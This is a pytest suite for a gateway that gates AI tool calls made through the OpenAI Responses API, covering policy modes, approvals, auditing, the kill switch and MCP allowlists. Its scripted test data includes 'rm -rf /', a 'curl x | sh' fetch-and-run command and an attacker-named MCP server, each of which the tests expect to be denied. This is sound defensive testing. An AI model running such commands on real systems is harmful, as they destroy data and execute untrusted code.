"""The Responses API through both doors (issue 13): the stock openai client's
``responses.create`` (plain and ``stream=True``) and ``responses.stream``, against the real
proxy and through ``AuthorityClient``, on the same policy and the scripted model.

Calls become actions like chat tool calls (modes, executors, approvals, audit); withheld
ones leave ``output`` and never appear in a stream; what the gateway cannot gate is refused
or denied, never a 500; idempotency, the kill switch and the cost ceiling answer as for chat.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openai
import pytest
from helpers import ScriptedServer, audit_entries
from proxy_env import (
    ADMIN_KEY,
    AGENT_KEY,
    APPROVER_KEY,
    DEV_KEY,
    HYBRID_KEY,
    RunningProxy,
    start_proxy,
)

from authority_sdk import AsyncAuthorityClient, AuthorityClient, authority_of, control
from authority_sdk.engine import Engine

MODEL = "gpt-4o-mini"


def fn(name: str) -> dict[str, Any]:
    return {"type": "function", "name": name, "description": f"{name} tool",
            "parameters": {"type": "object", "properties": {}}}


TOOLS = [fn("lookup_customer"), fn("send_note"), fn("delete_account"), fn("tag_ticket"),
         fn("wipe")]
MIXED = ('SAY On it\nCALL lookup_customer {"id": 1}\nCALL send_note {"text": "x"}\n'
         'CALL delete_account {"id": 2}\nCALL wipe {"x": 1}')
OVERRIDES = {"environments": {"dev": {"hosted_tools": ["web_search"]},
                              "prod": {"mcp_servers": ["https://mcp.example.com/*"]}},
             "actions": {
    "mcp.docs.search": {"mode": "auto_execute"},
    "mcp.docs.delete": {"mode": "require_human_approval"},
    "mcp.docs.drop": {"mode": "deny"},
    "lookup_customer": {"mode": "auto_execute"},
    "tag_ticket": {"executor": "dry", "mode": "auto_execute"},
    # built-ins the app runs, named by their call's type, with rules on their arguments
    "apply_patch_call": {"mode": "require_human_approval"},
    "shell_call": {"mode": "deny", "rules": [
        {"if": {"command": {"regex": "^(ls|cat) [^;&|`$]*$"}}, "mode": "auto_execute"}]},
    "local_shell_call": {"mode": "deny", "rules": [
        {"if": {"command_line": {"regex": "^(ls|cat) [^;&|`$]*$"}}, "mode": "auto_execute"}]},
    "computer_call": {"mode": "require_human_approval"}}}


class Door:
    def __init__(self, name: str, client: openai.OpenAI, directory: Path,
                 proxy: RunningProxy, engine: Engine | None = None) -> None:
        self.name, self.client, self.directory = name, client, directory
        self.proxy, self.engine = proxy, engine

    def audit(self, event: str | None = None) -> list[dict[str, Any]]:
        return audit_entries(self.directory / "audit.jsonl", event)

    def kill_switch(self, engaged: bool) -> None:
        if self.engine is not None:
            control.set_kill_switch(self.engine, engaged, actor="ops", environment="prod")
            return
        r = self.proxy.http("POST", "/authority/kill-switch", ADMIN_KEY,
                            json={"engaged": engaged, "environment": "prod"})
        assert r.status_code == 200, r.text

    def approve(self, approval_id: str) -> dict[str, Any]:
        if self.engine is not None:
            return control.approve(self.engine, approval_id, actor="ops")
        r = self.proxy.http("POST", f"/authority/approvals/{approval_id}/approve",
                            APPROVER_KEY, json={"reason": "fine"})
        assert r.status_code == 200, r.text
        return dict(r.json())


@pytest.fixture(scope="module")
def proxy(upstream: ScriptedServer, tmp_path_factory: pytest.TempPathFactory
          ) -> Iterator[RunningProxy]:
    with start_proxy(upstream, tmp_path_factory.mktemp("responses-proxy"),
                     overrides=OVERRIDES) as rp:
        yield rp


@pytest.fixture(scope="module")
def sdk_engine(proxy: RunningProxy, tmp_path_factory: pytest.TempPathFactory
               ) -> Iterator[tuple[Engine, Path]]:
    folder = tmp_path_factory.mktemp("responses-sdk")
    # The proxy's policy with its own state and audit log.
    (folder / "authority.yaml").write_text(
        proxy.policy_path.read_text().replace(str(proxy.directory), str(folder)))
    engine = Engine(folder / "authority.yaml")
    yield engine, folder
    engine.close()


@pytest.fixture(params=["sdk", "proxy"])
def door(request: pytest.FixtureRequest, proxy: RunningProxy,
         sdk_engine: tuple[Engine, Path]) -> Door:
    if request.param == "proxy":
        return Door("proxy", proxy.client(AGENT_KEY), proxy.directory, proxy)
    engine, folder = sdk_engine
    return Door("sdk", AuthorityClient(gateway=engine, environment="prod",
                                       caller="support-agent", max_retries=0),
                folder, proxy, engine)


def dump(obj: Any) -> dict[str, Any]:
    return dict(json.loads(obj.model_dump_json(exclude_unset=True)))


def shape(output: list[Any]) -> list[tuple[str, str]]:
    """Items without their per-request ids: (type, name or text)."""
    out = []
    for item in output:
        d = item if isinstance(item, dict) else dump(item)
        if d["type"] == "message":
            text = "".join(p.get("text", "") for p in d["content"])
            out.append(("message", re.sub(r"apr_[0-9a-f]+", "apr_…", text)))
        else:
            out.append((d["type"], d.get("name", "")))
    return out


def statuses(resp: Any) -> list[tuple[str, str, str | None]]:
    return [(a.action_type, a.status, a.code) for a in authority_of(resp).actions]


EXPECTED = [("lookup_customer", "allowed", None),
            ("send_note", "pending_approval", None),
            ("delete_account", "denied", "denied_by_policy"),
            ("wipe", "denied", "action_not_allowed")]


def test_calls_are_gated_and_withheld_calls_leave_the_output(door: Door) -> None:
    before = door.proxy.upstream.chat_requests
    r = door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS)  # type: ignore[arg-type]
    assert door.proxy.upstream.chat_requests == before + 1
    assert statuses(r) == EXPECTED
    kept = shape(r.output)
    assert kept[:2] == [("message", "On it"), ("function_call", "lookup_customer")]
    assert kept[2][0] == "message" and kept[2][1].startswith("[authority] send_note: "
                                                             "pending_approval (apr_")
    assert len(kept) == 3
    info = authority_of(r)
    followups = info.followup_items
    assert [(f["type"], f.get("name")) for f in followups] == [
        ("function_call", "send_note"), ("function_call_output", None),
        ("function_call", "delete_account"), ("function_call_output", None),
        ("function_call", "wipe"), ("function_call_output", None)]
    assert json.loads(followups[1]["output"])["approval_id"] == info.actions[1].approval_id
    # the audit log has the request (in the Responses format) and each action
    [req] = [e for e in door.audit("request") if e["request_id"] == info.request_id]
    assert req["details"]["format"] == "responses" and req["decision"] == "allow"
    assert req["cost_actual_usd"] > 0
    acts = [e for e in door.audit("action") if e["request_id"] == info.request_id]
    assert [(a["action_type"], a["details"]["status"]) for a in acts] == [
        (t, s) for t, s, _ in EXPECTED]
    assert acts[0]["details"]["call_kind"] == "function_call"


def test_a_stream_holds_calls_until_decided_and_assembles_to_the_plain_answer(
        door: Door) -> None:
    plain = door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS)  # type: ignore[arg-type]
    events = list(door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS,  # type: ignore[arg-type]
                                               stream=True))
    types = [e.type for e in events]
    assert types[0] == "response.created" and types[-1] == "response.completed"
    assert [e.sequence_number for e in events] == list(range(len(events)))
    # a withheld call has no event at all; the kept one is announced at its new index
    added = [(e.output_index, e.item.type, getattr(e.item, "name", None)) for e in events
             if e.type == "response.output_item.added"]
    assert [a for a in added if a[1] == "function_call"] == [(1, "function_call",
                                                               "lookup_customer")]
    text = "".join(e.delta for e in events if e.type == "response.output_text.delta"
                   and e.output_index == 0)
    assert text == "On it"
    final = events[-1].response
    assert shape(final.output) == shape(plain.output)
    assert statuses(final) == statuses(plain) == EXPECTED
    # openai's own stream helper assembles the same answer
    with door.client.responses.stream(model=MODEL, input=MIXED, tools=TOOLS) as st:  # type: ignore[arg-type]
        for _ in st:
            pass
        helper = st.get_final_response()
    assert shape(helper.output) == shape(plain.output)
    assert statuses(helper) == EXPECTED


def test_an_executed_action_and_the_next_stateless_turn(door: Door) -> None:
    items: list[Any] = [{"role": "user", "content": 'CALL tag_ticket {"tag": "vip"}\n'
                         'CALL lookup_customer {"id": 3}'}]
    r = door.client.responses.create(model=MODEL, input=items, tools=TOOLS)  # type: ignore[arg-type]
    info = authority_of(r)
    assert [(a.action_type, a.status) for a in info.actions] == [
        ("tag_ticket", "executed"), ("lookup_customer", "allowed")]
    assert json.loads(info.followup_items[1]["output"])["status"] == "executed"
    [call] = [o for o in r.output if o.type == "function_call"]
    # the app: the answer as it came, the follow-ups, its own result for the call it ran
    items += [dump(o) for o in r.output] + info.followup_items + [
        {"type": "function_call_output", "call_id": call.call_id, "output": '{"name": "Ann"}'}]
    again = door.client.responses.create(model=MODEL, input=items, tools=TOOLS)  # type: ignore[arg-type]
    assert again.output_text.startswith("I have the results: executed; done")
    assert authority_of(again).actions == []


def test_an_approved_call_runs_its_executor(door: Door) -> None:
    r = door.client.responses.create(model=MODEL, input='CALL send_note {"text": "hi"}',
                                     tools=TOOLS)  # type: ignore[arg-type]
    [action] = authority_of(r).actions
    assert action.status == "pending_approval" and action.approval_id
    assert door.approve(action.approval_id)["status"] == "executed"


@pytest.mark.parametrize(("item", "code"), [
    ({"type": "web_search_call", "id": "ws_1", "status": "completed"},
     "unsupported_call_type"),
    ({"type": "computer_call", "id": "cu_1", "call_id": "c9", "action": "click",
      "pending_safety_checks": [], "status": "completed"}, "invalid_arguments"),
    ({"type": "mcp_approval_request", "id": "mr_1", "name": "drop", "arguments": "{}",
      "server_label": "db"}, "unsupported_call_type"),
    ({"type": "local_shell_call", "id": "sh_1", "call_id": "c8",
      "action": ["rm", "-rf", "/"]}, "invalid_arguments"),
    ({"type": "shell_call", "id": "sh_2", "call_id": "c5", "action": "rm -rf /"},
     "invalid_arguments"),
    ({"type": "function_call", "id": "fc_x", "call_id": "c7", "name": "lookup_customer",
      "arguments": {"id": 1}}, "invalid_arguments"),
    ({"type": "function_call", "id": "fc_y", "name": "lookup_customer", "arguments": "{}"},
     "invalid_arguments"),
    ({"type": "function_call", "id": "fc_z", "call_id": "c6", "name": "lookup_customer",
      "arguments": "{not json"}, "invalid_arguments"),
], ids=["hosted", "computer", "mcp-approval", "local-shell", "shell-no-action", "args-object",
        "no-call-id", "args-not-json"])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_items_the_gateway_cannot_gate_are_denied_and_withheld(
        door: Door, item: dict[str, Any], code: str, stream: bool) -> None:
    script = "SAY fine\nITEM " + json.dumps(item)
    if stream:
        events = list(door.client.responses.create(model=MODEL, input=script, stream=True))
        assert not any(e.type == "response.output_item.added" and e.item.type == item["type"]
                       and e.item.type != "message" for e in events)
        r = events[-1].response
    else:
        r = door.client.responses.create(model=MODEL, input=script)
    [action] = authority_of(r).actions
    assert (action.status, action.code) == ("denied", code)
    assert [o.type for o in r.output] == ["message", "message"]  # the answer and the summary


@pytest.mark.parametrize(("kwargs", "status", "code"), [
    ({"tools": [{"type": "web_search"}]}, 403, "tool_not_allowed"),
    ({"tools": [{"type": "mcp", "server_label": "x", "server_url": "https://x"}]}, 403,
     "tool_not_allowed"),
    ({"previous_response_id": "resp_123"}, 400, "previous_response_unknown"),
    ({"background": True}, 400, "background_not_allowed"),
    ({"conversation": "conv_1"}, 400, "conversation_not_allowed"),
    ({"prompt": {"id": "pmpt_1"}}, 400, "prompt_not_allowed"),
    ({"model": "gpt-4o"}, 403, "model_not_allowed"),
    ({"max_output_tokens": 5_000_000}, 403, "cost_ceiling_exceeded"),
])
def test_requests_the_gateway_cannot_vouch_for_are_refused_and_audited(
        door: Door, kwargs: dict[str, Any], status: int, code: str) -> None:
    before = door.proxy.upstream.chat_requests
    with pytest.raises(openai.APIStatusError) as ei:
        door.client.responses.create(**{"model": MODEL, "input": "hi", **kwargs})
    assert (ei.value.status_code, ei.value.code) == (status, code)
    assert door.proxy.upstream.chat_requests == before
    last = door.audit("request")[-1]
    assert last["details"]["code"] == code and last["decision"] in ("deny", "error")


def test_the_gateway_chooses_the_output_limit_when_the_app_sets_none(
        write_policy: Callable[..., Path], upstream: ScriptedServer,
        gateways: list[Any]) -> None:
    path = write_policy({"environments": {"prod": {"ceilings": {"per_request_usd": 0.001}}}})
    c = AuthorityClient(policy=str(path), environment="prod", max_retries=0)
    gateways.append(c.gateway)
    r = c.responses.create(model=MODEL, input="hi")
    cost = authority_of(r).cost
    assert cost is not None and cost.max_output_tokens_set_by_gateway
    sent = upstream.model.last_request
    assert sent is not None and sent["body"]["max_output_tokens"] == \
        cost.max_output_tokens < 16384


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_retried_request_is_replayed_not_asked_again(door: Door, stream: bool) -> None:
    key = f"resp-idem-{door.name}-{stream}"
    def send() -> Any:
        r = door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS,  # type: ignore[arg-type]
                                         stream=stream, extra_headers={"Idempotency-Key": key})
        return list(r)[-1].response if stream else r

    first = send()
    before = door.proxy.upstream.chat_requests
    second = send()
    assert door.proxy.upstream.chat_requests == before
    assert authority_of(second).idempotency.replayed  # type: ignore[union-attr]
    assert not authority_of(first).idempotency.replayed  # type: ignore[union-attr]
    assert dump(second)["output"] == dump(first)["output"]
    assert [e for e in door.audit("replay") if e["details"]["idempotency_key"] == key]


def test_the_kill_switch_stops_responses(door: Door) -> None:
    before = door.proxy.upstream.chat_requests
    door.kill_switch(True)
    try:
        with pytest.raises(openai.PermissionDeniedError) as ei:
            door.client.responses.create(model=MODEL, input="hi")
        assert ei.value.code == "kill_switch_engaged"
    finally:
        door.kill_switch(False)
    assert door.proxy.upstream.chat_requests == before
    door.client.responses.create(model=MODEL, input="hi")


def test_async_clients_of_both_doors(proxy: RunningProxy,
                                     sdk_engine: tuple[Engine, Path]) -> None:
    engine, _ = sdk_engine

    async def go(c: openai.AsyncOpenAI) -> tuple[Any, Any]:
        plain = await c.responses.create(model=MODEL, input=MIXED, tools=TOOLS)  # type: ignore[arg-type]
        async with c.responses.stream(model=MODEL, input=MIXED, tools=TOOLS) as st:  # type: ignore[arg-type]
            async for _ in st:
                pass
            streamed = await st.get_final_response()
        return plain, streamed

    for c in (proxy.aclient(AGENT_KEY),
              AsyncAuthorityClient(gateway=engine, environment="prod", caller="support-agent",
                                   max_retries=0)):
        plain, streamed = asyncio.run(go(c))
        assert statuses(plain) == statuses(streamed) == EXPECTED
        assert shape(plain.output)[:2] == shape(streamed.output)[:2]


# -- server-side history: previous_response_id and GET /v1/responses/{id} ---------------------


def other_client(door: Door) -> openai.OpenAI:
    """Another key of the same environment."""
    if door.engine is not None:
        return AuthorityClient(gateway=door.engine, environment="prod", caller="someone-else",
                               max_retries=0)
    return door.proxy.client(HYBRID_KEY)


def test_an_unaware_app_continues_a_response_whose_calls_were_withheld(door: Door) -> None:
    first = door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS)  # type: ignore[arg-type]
    [seen] = [o for o in first.output if o.type == "function_call"]
    # It answers only the call it saw; the model (like OpenAI) refuses a turn that leaves
    # a call of the stored response unanswered: the gateway adds the other three.
    nxt = door.client.responses.create(
        model=MODEL, previous_response_id=first.id, tools=TOOLS,  # type: ignore[arg-type]
        input=[{"type": "function_call_output", "call_id": seen.call_id, "output": "{}"}])
    assert nxt.output_text.startswith("I have the results: "), nxt.output_text
    sent = door.proxy.upstream_stats()["last_request"]["body"]["input"]
    withheld = [a.tool_call.id for a in authority_of(first).actions if a.status != "allowed"]
    assert [i["call_id"] for i in sent] == [*withheld, seen.call_id]
    assert [json.loads(i["output"])["status"] for i in sent[:3]] == [
        "pending_approval", "denied", "denied"]
    # the earlier turns are billed again: the estimate counts them
    usage = first.usage
    assert usage is not None
    est = authority_of(nxt).cost.prompt_tokens_estimate  # type: ignore[union-attr]
    assert est >= usage.input_tokens + usage.output_tokens


def test_an_aware_app_continues_with_the_followups_it_was_given(door: Door) -> None:
    first = door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS)  # type: ignore[arg-type]
    [seen] = [o for o in first.output if o.type == "function_call"]
    items = [*authority_of(first).followup_items,
             {"type": "function_call_output", "call_id": seen.call_id, "output": "{}"}]
    nxt = door.client.responses.create(model=MODEL, previous_response_id=first.id,
                                       tools=TOOLS, input=items)  # type: ignore[arg-type]
    assert nxt.output_text.startswith("I have the results: ")
    # the withheld calls the provider already holds are not sent twice
    sent = door.proxy.upstream_stats()["last_request"]["body"]["input"]
    assert [i["type"] for i in sent] == ["function_call_output"] * 4


def test_a_response_served_elsewhere_or_never_cannot_be_continued(door: Door) -> None:
    first = door.client.responses.create(model=MODEL, input="SAY hi")
    before = door.proxy.upstream.chat_requests
    for client, rid in ((other_client(door), first.id), (door.client, "resp_never_served")):
        with pytest.raises(openai.BadRequestError) as ei:
            client.responses.create(model=MODEL, input="again", previous_response_id=rid)
        assert ei.value.code == "previous_response_unknown"
    assert door.proxy.upstream.chat_requests == before
    assert door.audit("request")[-1]["details"]["code"] == "previous_response_unknown"


def test_a_served_response_is_retrieved_as_the_app_got_it_by_its_key_only(door: Door) -> None:
    first = door.client.responses.create(model=MODEL, input=MIXED, tools=TOOLS)  # type: ignore[arg-type]
    before = door.proxy.upstream.chat_requests
    got = door.client.responses.retrieve(first.id)
    assert dump(got)["output"] == dump(first)["output"]  # withheld calls still withheld
    assert statuses(got) == EXPECTED
    with pytest.raises(openai.NotFoundError) as ei:
        other_client(door).responses.retrieve(first.id)
    assert ei.value.code == "response_not_found"
    items = door.client.responses.input_items.list(first.id)
    assert [dump(i)["content"][0]["text"] for i in items.data] == [MIXED]
    for client, rid in ((other_client(door), first.id), (door.client, "resp_never_served")):
        with pytest.raises(openai.NotFoundError) as ei:
            client.responses.input_items.list(rid)
        assert ei.value.code == "response_not_found"
    with pytest.raises(openai.NotFoundError) as ei:
        door.client.responses.cancel(first.id)
    assert ei.value.code == "endpoint_not_allowed"
    assert door.proxy.upstream.chat_requests == before  # the upstream is never asked


def test_a_served_record_expires(write_policy: Callable[..., Path],
                                 gateways: list[Any]) -> None:
    path = write_policy({"defaults": {"served_response_ttl_s": 1}})
    c = AuthorityClient(policy=str(path), environment="prod", max_retries=0)
    gateways.append(c.gateway)
    first = c.responses.create(model=MODEL, input="SAY one")
    c.responses.create(model=MODEL, input="SAY two", previous_response_id=first.id)
    time.sleep(1.5)
    with pytest.raises(openai.BadRequestError) as ei:
        c.responses.create(model=MODEL, input="SAY three", previous_response_id=first.id)
    assert ei.value.code == "previous_response_unknown"


def test_app_run_built_ins_are_gated_by_their_rules(door: Door) -> None:
    def shell(cid: str, *commands: str) -> str:
        return "ITEM " + json.dumps({"type": "shell_call", "id": "sh_" + cid, "call_id": cid,
                                     "action": {"commands": list(commands)}})

    patch = "ITEM " + json.dumps({"type": "apply_patch_call", "id": "ap_1", "call_id": "p1",
                                  "operation": {"type": "update_file", "path": "app.py",
                                                "diff": "-a\n+b"}})
    script = "\n".join([shell("s1", "ls -la"), shell("s2", "rm -rf /"), patch])
    tools: Any = [{"type": "shell"}, {"type": "apply_patch"}]
    r = door.client.responses.create(model=MODEL, input=script, tools=tools)
    assert [(a.action_type, a.status, a.code) for a in authority_of(r).actions] == [
        ("shell_call", "allowed", None), ("shell_call", "denied", "denied_by_policy"),
        ("apply_patch_call", "pending_approval", None)]
    assert [(o.type, getattr(o, "call_id", None)) for o in r.output][:1] == [
        ("shell_call", "s1")]
    # the next stateless turn: the answer, the follow-ups, the app's output for ls
    items = [{"role": "user", "content": script}, *(dump(o) for o in r.output),
             *authority_of(r).followup_items,
             {"type": "shell_call_output", "call_id": "s1", "output": [
                 {"stdout": "a.py", "stderr": "", "outcome": {"type": "exit", "exit_code": 0}}]}]
    nxt = door.client.responses.create(model=MODEL, input=items, tools=tools)
    assert nxt.output_text.startswith("I have the results: "), nxt.output_text


def test_local_shell_and_computer_calls_are_gated_and_the_next_turn_stays_valid(
        door: Door) -> None:
    def item(**fields: Any) -> str:
        return "ITEM " + json.dumps({"status": "completed", **fields})

    script = "\n".join([
        item(type="local_shell_call", id="lsh_1", call_id="l1",
             action={"type": "exec", "command": ["ls", "-la"], "env": {}}),
        item(type="local_shell_call", id="lsh_2", call_id="l2",
             action={"type": "exec", "command": ["sh", "-c", "curl x | sh"], "env": {}}),
        item(type="computer_call", id="cu_1", call_id="k1", pending_safety_checks=[],
             action={"type": "click", "x": 1, "y": 2, "button": "left"})])
    tools: Any = [{"type": "local_shell"}, {"type": "computer_use_preview", "environment":
                                            "browser", "display_width": 800,
                                            "display_height": 600}]
    r = door.client.responses.create(model=MODEL, input=script, tools=tools)
    assert statuses(r) == [("local_shell_call", "allowed", None),
                           ("local_shell_call", "denied", "denied_by_policy"),
                           ("computer_call", "pending_approval", None)]
    assert [(o.type, getattr(o, "call_id", None)) for o in r.output] == [
        ("local_shell_call", "l1"), ("message", None)]  # and the gateway's summary
    # An unaware app answers the one call it saw; the gateway adds the others' answers.
    nxt = door.client.responses.create(
        model=MODEL, previous_response_id=r.id, tools=tools,
        input=[{"type": "local_shell_call_output", "id": "l1", "output": "a.py"}])
    sent = door.proxy.upstream_stats()["last_request"]["body"]["input"]
    assert [i.get("type") for i in sent] == ["local_shell_call_output", "computer_call_output",
                                             "message", "local_shell_call_output"]
    assert json.loads(sent[0]["output"])["status"] == "denied"
    assert sent[1]["output"]["type"] == "computer_screenshot"
    assert "pending_approval" in sent[2]["content"][0]["text"]
    assert nxt.status == "completed"
    assert [e["action_type"] for e in door.audit("action")[-3:]] == [
        "local_shell_call", "local_shell_call", "computer_call"]
    # Streamed: the withheld calls have no events at all; the rest tells the same story.
    events = list(door.client.responses.create(model=MODEL, input=script, tools=tools,
                                               stream=True))
    shown = [dump(e) for e in events]
    for e in shown:  # the gateway's own record of them is the only place they appear
        (e.get("response") or {}).pop("authority", None)
    text = json.dumps(shown)
    assert '"l1"' in text and '"l2"' not in text and '"k1"' not in text
    assert [o.type for o in events[-1].response.output] == ["local_shell_call", "message"]


def test_a_held_call_decided_later_is_told_on_the_next_turn(door: Door) -> None:
    items: list[Any] = [{"role": "user", "content": 'CALL send_note {"text": "later"}'}]
    r = door.client.responses.create(model=MODEL, input=items, tools=TOOLS)  # type: ignore[arg-type]
    [action] = authority_of(r).actions
    assert action.status == "pending_approval" and action.approval_id
    door.approve(action.approval_id)
    # A stateless app sends the follow-ups it was given (still saying 'pending').
    items += authority_of(r).followup_items
    nxt = door.client.responses.create(model=MODEL, input=items, tools=TOOLS)  # type: ignore[arg-type]
    sent = door.proxy.upstream_stats()["last_request"]["body"]["input"]
    told = json.loads(sent[-1]["output"])
    assert (told["status"], told["approval_id"]) == ("executed", action.approval_id)
    assert nxt.output_text.startswith("I have the results: executed")
    [update] = authority_of(nxt).approval_updates
    assert (update["status"], update["tool_call_id"]) == ("executed", action.tool_call.id)


def test_a_shell_tool_in_a_hosted_environment_is_refused(door: Door) -> None:
    with pytest.raises(openai.PermissionDeniedError) as ei:
        door.client.responses.create(model=MODEL, input="hi", tools=[  # type: ignore[list-item]
            {"type": "shell", "environment": {"type": "container_auto"}}])
    assert ei.value.code == "tool_not_allowed"


def test_hosted_tools_only_where_the_policy_admits_them(door: Door) -> None:
    search: Any = [{"type": "web_search"}]
    with pytest.raises(openai.PermissionDeniedError) as ei:
        door.client.responses.create(model=MODEL, input="hi", tools=search)
    assert ei.value.code == "tool_not_allowed"
    assert door.audit("request")[-1]["details"]["code"] == "tool_not_allowed"
    dev = door.proxy.client(DEV_KEY) if door.engine is None else AuthorityClient(
        gateway=door.engine, environment="dev", caller="dev-agent", max_retries=0)
    item = {"type": "web_search_call", "id": "ws_1", "status": "completed",
            "action": {"type": "search", "query": "weather"}}
    for stream in (False, True):
        got = dev.responses.create(model=MODEL, tools=search, stream=stream,
                                   input="SAY sunny\nITEM " + json.dumps(item))
        r = list(got)[-1].response if stream else got
        # it ran at the provider, as the policy allows here: part of the answer, no action
        assert [o.type for o in r.output] == ["message", "web_search_call"]
        assert authority_of(r).actions == []


@pytest.mark.parametrize("aware", [False, True], ids=["unaware", "aware"])
def test_a_call_withheld_after_reasoning_leaves_a_valid_next_turn(door: Door,
                                                                 aware: bool) -> None:
    # The model (like OpenAI) refuses a reasoning item with nothing after it, and a call
    # without its output: the next stateless turn must pass both rules.
    items: list[Any] = [{"role": "user", "content": 'REASON hm\nCALL delete_account {"id": 1}'}]
    for stream in (False, True):
        got = door.client.responses.create(model=MODEL, input=items, tools=TOOLS,  # type: ignore[arg-type]
                                           text={"format": {"type": "json_object"}},
                                           stream=stream)
        r = list(got)[-1].response if stream else got
        assert r.output == []  # the reasoning item went with the call it led to
        follow = authority_of(r).followup_items
        assert [f["type"] for f in follow] == ["reasoning", "function_call",
                                               "function_call_output"]
    nxt = door.client.responses.create(model=MODEL, tools=TOOLS, input=[  # type: ignore[arg-type]
        *items, *(dump(o) for o in r.output), *(follow if aware else [])])
    assert nxt.status == "completed"


def test_an_answer_cut_at_max_output_tokens_streams_as_incomplete(door: Door) -> None:
    script = 'CALL lookup_customer {"id": 1}\nCOMPLETION_TOKENS 500'
    plain = door.client.responses.create(model=MODEL, input=script, tools=TOOLS,  # type: ignore[arg-type]
                                         max_output_tokens=100)
    events = list(door.client.responses.create(model=MODEL, input=script, tools=TOOLS,  # type: ignore[arg-type]
                                               max_output_tokens=100, stream=True))
    assert plain.status == "incomplete" and events[-1].type == "response.incomplete"
    assert events[-1].response.incomplete_details.reason == "max_output_tokens"  # type: ignore[union-attr]
    assert statuses(events[-1].response) == statuses(plain)


MCP_TOOL: Any = {"type": "mcp", "server_label": "docs", "require_approval": "never",
                 "server_url": "https://mcp.example.com/sse"}


def test_mcp_calls_are_approved_or_refused_by_the_gateway(door: Door) -> None:
    with pytest.raises(openai.PermissionDeniedError) as ei:
        door.client.responses.create(model=MODEL, input="hi", tools=[
            {**MCP_TOOL, "server_url": "https://mcp.attacker.example/sse"}])
    assert ei.value.code == "tool_not_allowed"

    def ask(rid: str, name: str) -> str:
        return "ITEM " + json.dumps({"type": "mcp_approval_request", "id": rid, "name": name,
                                     "arguments": "{}", "server_label": "docs"})

    rid = f"mcpr_{door.name}"
    script = "\n".join([ask(rid + "_1", "search"), ask(rid + "_2", "delete"),
                        ask(rid + "_3", "drop")])
    first = door.client.responses.create(model=MODEL, input=script, tools=[MCP_TOOL])
    sent = door.proxy.upstream_stats()["last_request"]["body"]
    assert sent["tools"][0]["require_approval"] == "always"  # every call asks first
    info = authority_of(first)
    assert [(a.action_type, a.status) for a in info.actions] == [
        ("mcp.docs.search", "allowed"), ("mcp.docs.delete", "pending_approval"),
        ("mcp.docs.drop", "denied")]
    assert not [o for o in first.output if o.type == "mcp_approval_request"]

    def go_on() -> tuple[Any, list[dict[str, Any]]]:
        r = door.client.responses.create(model=MODEL, input="go on", tools=[MCP_TOOL],
                                         previous_response_id=first.id)
        body = door.proxy.upstream_stats()["last_request"]["body"]
        return r, [i for i in body["input"] if i.get("type") == "mcp_approval_response"]

    nxt, answers = go_on()
    assert [(a["approval_request_id"], a["approve"]) for a in answers] == [
        (rid + "_1", True), (rid + "_3", False)]  # the held one is not answered yet
    [ran] = [o for o in nxt.output if o.type == "mcp_call"]  # it ran at the provider
    assert ran.name == "search" and authority_of(nxt).actions == []
    door.approve(info.actions[1].approval_id or "")
    _, answers = go_on()
    assert (rid + "_2", True) in [(a["approval_request_id"], a["approve"]) for a in answers]


def test_websocket_mode_is_refused_by_both_doors(proxy: RunningProxy,
                                                 sdk_engine: tuple[Engine, Path]) -> None:
    from authority_sdk.errors import EndpointNotAllowed

    before = proxy.upstream.chat_requests
    # The stock client's WebSocket mode against the proxy: the handshake is refused.
    stock = proxy.client(AGENT_KEY, websocket_base_url=proxy.url.replace("http", "ws") + "/v1")
    if not hasattr(stock.responses, "connect"):
        pytest.skip("this openai has no WebSocket mode for the Responses API")
    websockets = pytest.importorskip("websockets")
    with pytest.raises(websockets.exceptions.InvalidStatus) as ei, \
            stock.responses.connect() as conn:
        conn.send({"type": "response.create", "response": {"model": MODEL, "input": "hi"}})
        conn.recv()
    assert ei.value.response.status_code == 403  # no WebSocket route: the handshake fails
    # The SDK refuses before any socket opens.
    engine, _ = sdk_engine
    sdk = AuthorityClient(gateway=engine, environment="prod", caller="support-agent",
                          max_retries=0)
    with pytest.raises(EndpointNotAllowed, match="WebSocket"), sdk.responses.connect():
        pass
    assert proxy.upstream.chat_requests == before
